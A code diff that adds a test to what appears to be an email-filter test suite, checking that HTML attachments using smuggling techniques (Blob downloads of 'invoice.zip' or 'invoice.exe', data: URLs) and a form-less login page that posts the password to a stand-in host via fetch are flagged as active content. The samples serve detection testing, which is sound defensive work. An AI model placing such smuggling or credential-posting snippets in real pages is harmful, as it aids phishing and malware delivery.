@@ -135,3 +135,24 @@ test('a password input written with character references (type="pass&#119;ord") 
   assert.equal((await send(body.replace('&#80;ASSWORD', 's&#101;arch'))).code, 250);
   assert.ok(!('PHISH_CREDENTIAL_FORM' in (await newestVerdict(t, ALICE)).symbols));
 });
+
+test('HTML smuggling without atob and a login page without a form tag are active attachments', async () => {
+  // What Microsoft describes of HTML smuggling (Mekotio, QakBot, NOBELIUM's EnvyScout): a Blob saved
+  // through createObjectURL or msSaveOrOpenBlob, a data: URL offered for download; and a login page whose
+  // script posts the password field itself (fetch, $.ajax), with no <form> at all.
+  const pages = [
+    '<script>var b=new Blob([new Uint8Array([80,75,3,4])]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="invoice.zip";a.click();</script>',
+    '<script>window.navigator.msSaveOrOpenBlob(new Blob([d]), "invoice.iso")</script>',
+    '<a href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA" download="invoice.exe">Download</a>',
+    '<iframe src="data:text/html;base64,PHA+aGk8L3A+"></iframe>',
+    '<input type="email" id="e"><input type="password" id="p"><button onclick="go()">Sign in</button><script>function go(){fetch("https://x.test/p",{method:"POST",body:p.value})}</script>',
+  ];
+  for (const content of pages) {
+    assert.equal((await send(message({ name: 'invoice.html', type: 'text/html', content }))).code, 250);
+    assert.deepEqual((await symbols()).sort(), ['ATTACH_HTML', 'ATTACH_HTML_ACTIVE'], content);
+  }
+  // A saved report with an inline picture is only an HTML file.
+  const report = '<h1>Report</h1><img src="data:image/png;base64,iVBORw0KGgo="><table><tr><td>1</td></tr></table>';
+  assert.equal((await send(message({ name: 'report.html', type: 'text/html', content: report }))).code, 250);
+  assert.deepEqual(await symbols(), ['ATTACH_HTML']);
+});
